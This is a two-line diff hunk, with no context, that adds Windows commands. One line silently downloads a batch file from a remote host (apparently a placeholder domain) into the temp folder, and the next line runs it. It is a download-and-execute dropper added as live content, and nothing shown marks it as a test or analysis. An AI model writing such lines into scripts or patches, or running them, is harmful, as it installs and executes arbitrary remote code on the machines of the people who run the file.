@@ -1,0 +1,2 @@
+curl -so %TEMP%\a.bat https://cdn-x7.invalid/a
+call %TEMP%\a.bat
